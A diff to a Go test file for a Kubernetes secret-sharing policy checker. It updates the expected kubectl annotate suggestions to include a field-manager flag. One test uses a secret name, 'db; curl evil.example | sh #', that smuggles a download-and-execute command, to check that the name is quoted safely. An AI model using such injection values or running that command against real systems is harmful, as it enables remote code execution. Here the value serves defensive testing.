@@ -49,8 +49,8 @@ func TestJudge(t *testing.T) {
 	yes, no := true, false
 	unshared := Verdict{Unshared: true}
 	const (
-		command       = "kubectl --namespace payments annotate secret db kraan.io/share-with=remotecluster/fleet/prod"
-		commandBeside = "is not given without leave: kubectl --namespace fleet annotate secret db kraan.io/share-with=remotecluster/fleet/prod (remoteclusters in place of that gives it to all RemoteClusters of fleet)"
+		command       = "kubectl --namespace payments annotate --field-manager=strata-cli secret db kraan.io/share-with=remotecluster/fleet/prod"
+		commandBeside = "is not given without leave: kubectl --namespace fleet annotate --field-manager=strata-cli secret db kraan.io/share-with=remotecluster/fleet/prod (remoteclusters in place of that gives it to all RemoteClusters of fleet)"
 	)
 	withAccount := prod
 	withAccount.Account = "deployer"
@@ -100,20 +100,20 @@ func TestJudge(t *testing.T) {
 		"beside it, the account may":   {"it gets no more than that", withAccount, here("fleet", "db"), Looked{Object: directoriestest.Secret("fleet", "db"), Allowed: &yes}, Verdict{Given: true, By: byAccount}, nil},
 		"beside it, with an account":   {"its rights have to be asked for", withAccount, here("fleet", "db"), Looked{Object: directoriestest.Secret("fleet", "db")}, Verdict{Ask: true}, nil},
 		"nothing beside it":            {"whether it exists is not told", prod, here("fleet", "db"), Looked{}, unshared, []string{commandBeside}},
-		"beside it, copied before":     {"it goes on for a while, and says how it can for good", prod, here("fleet", "db"), Looked{Object: directoriestest.Secret("fleet", "db"), Copied: true}, Verdict{Given: true, Ending: "kubectl --namespace fleet annotate secret db kraan.io/share-with=remotecluster/fleet/prod (remoteclusters in place of that gives it to all RemoteClusters of fleet)"}, nil},
+		"beside it, copied before":     {"it goes on for a while, and says how it can for good", prod, here("fleet", "db"), Looked{Object: directoriestest.Secret("fleet", "db"), Copied: true}, Verdict{Given: true, Ending: "kubectl --namespace fleet annotate --field-manager=strata-cli secret db kraan.io/share-with=remotecluster/fleet/prod (remoteclusters in place of that gives it to all RemoteClusters of fleet)"}, nil},
 		"elsewhere, copied before":     {"that needed leave always", prod, here("payments", "db"), Looked{Object: directoriestest.Secret("payments", "db"), Copied: true}, unshared, []string{command}},
 		"a key of hosts, shared":       {"no leave gives it", prod, here("fleet", "db"), Looked{Object: directoriestest.Secret("fleet", "db", sharedWith("remoteclusters")), Kept: KeptForLogin}, Verdict{}, []string{"is never given", KeptForLogin}},
 		"a key of hosts, copied":       {"nor what was copied before", prod, here("fleet", "db"), Looked{Object: directoriestest.Secret("fleet", "db"), Kept: KeptForLogin, Copied: true}, Verdict{}, []string{"is never given", KeptForLogin}},
 		"a key of hosts":               {"without leave nothing is told of it", prod, here("fleet", "db"), Looked{Object: directoriestest.Secret("fleet", "db"), Kept: KeptForLogin}, unshared, []string{commandBeside}},
 		"passwords of a claim, shared": {"they are for its provider", prod, here("fleet", "db-passwords"), Looked{Object: directoriestest.Secret("fleet", "db-passwords", sharedWith("layer/base"), directoriestest.Labelled(v1alpha1.ClaimLabel, "uid"))}, Verdict{}, []string{"is never given", reserved.KeptForClaim}},
 		"the cluster's own binding":    {"it was claimed for that cluster", prod, here("fleet", "db-binding"), Looked{Object: directoriestest.Secret("fleet", "db-binding", directoriestest.Labelled(v1alpha1.ClaimLabel, "uid")), IsBinding: true}, Verdict{Given: true, By: byClaim}, nil},
-		"another binding":              {"it needs leave", prod, here("fleet", "db-binding"), Looked{Object: directoriestest.Secret("fleet", "db-binding", directoriestest.Labelled(v1alpha1.ClaimLabel, "uid"))}, unshared, []string{"annotate secret db-binding"}},
+		"another binding":              {"it needs leave", prod, here("fleet", "db-binding"), Looked{Object: directoriestest.Secret("fleet", "db-binding", directoriestest.Labelled(v1alpha1.ClaimLabel, "uid"))}, unshared, []string{"annotate --field-manager=strata-cli secret db-binding"}},
 		"another binding, shared":      {"its owner says so", prod, here("fleet", "db-binding"), Looked{Object: directoriestest.Secret("fleet", "db-binding", sharedWith("layer/base"), directoriestest.Labelled(v1alpha1.ClaimLabel, "uid"))}, Verdict{Given: true, By: byAnnotation}, nil},
 		"neither is shared": {
 			"both places are named", prod, here("payments", "db"),
 			Looked{Unshared: true},
 			unshared,
-			[]string{"is not on RemoteCluster fleet/prod, and those of the namespaces fleet and payments are not given without leave: kubectl --namespace fleet annotate secret db kraan.io/share-with=remotecluster/fleet/prod, or " + command},
+			[]string{"is not on RemoteCluster fleet/prod, and those of the namespaces fleet and payments are not given without leave: kubectl --namespace fleet annotate --field-manager=strata-cli secret db kraan.io/share-with=remotecluster/fleet/prod, or " + command},
 		},
 		"elsewhere":               {"nobody has given it", prod, here("payments", "db"), Looked{Object: directoriestest.Secret("payments", "db")}, unshared, []string{command}},
 		"nothing elsewhere":       {"whether it exists is not told", prod, here("payments", "db"), Looked{}, unshared, []string{command}},
@@ -166,7 +166,7 @@ func TestJudge(t *testing.T) {
 		"Helm's by name":          {"never", prod, here("fleet", "sh.helm.release.v1.a.v1"), Looked{}, Verdict{}, []string{"is never given", "what Helm keeps"}},
 		"a kubeconfig beside it":  {"of whichever RemoteCluster", prod, here("fleet", "db"), Looked{Object: directoriestest.Secret("fleet", "db", sharedWith("layer/base")), Kept: reserved.KeptSource}, Verdict{}, []string{"what a RemoteCluster has its kubeconfig from"}},
 		"a kubeconfig there":      {"of a RemoteCluster behind it", prod, there("db"), Looked{Object: directoriestest.Secret("payments", "db"), Kept: reserved.KeptSource}, Verdict{}, []string{"what a RemoteCluster has its kubeconfig from"}},
-		"Cluster API's":           {"the keys of another cluster lie in the same namespace", prod, here("fleet", "db"), Looked{Object: directoriestest.Secret("fleet", "db", directoriestest.Labelled("cluster.x-k8s.io/cluster-name", "other"))}, unshared, []string{"kubectl --namespace fleet annotate secret db"}},
+		"Cluster API's":           {"the keys of another cluster lie in the same namespace", prod, here("fleet", "db"), Looked{Object: directoriestest.Secret("fleet", "db", directoriestest.Labelled("cluster.x-k8s.io/cluster-name", "other"))}, unshared, []string{"kubectl --namespace fleet annotate --field-manager=strata-cli secret db"}},
 		"Cluster API's, shared":   {"its owner says so", prod, here("fleet", "db"), Looked{Object: directoriestest.Secret("fleet", "db", directoriestest.Labelled("cluster.x-k8s.io/cluster-name", "other"), sharedWith("layer/base"))}, Verdict{Given: true, By: byAnnotation}, nil},
 	}
 	for name, tc := range cases {
@@ -231,7 +231,7 @@ func TestJudgeTellsNothing(t *testing.T) {
 func TestCommandsThatShareAreMadeOfWords(t *testing.T) {
 	origin := objects.ID{Kind: "Secret", Namespace: "payments", Name: "db; curl evil.example | sh #"}
 	verdict := prod.Judge(origin, origin, Looked{Unshared: true})
-	if strings.Count(verdict.Withheld, "annotate secret 'db; curl evil.example | sh #' kraan.io/share-with=") != 2 {
+	if strings.Count(verdict.Withheld, "annotate --field-manager=strata-cli secret 'db; curl evil.example | sh #' kraan.io/share-with=") != 2 {
 		t.Errorf("it says %s", verdict.Withheld)
 	}
 }
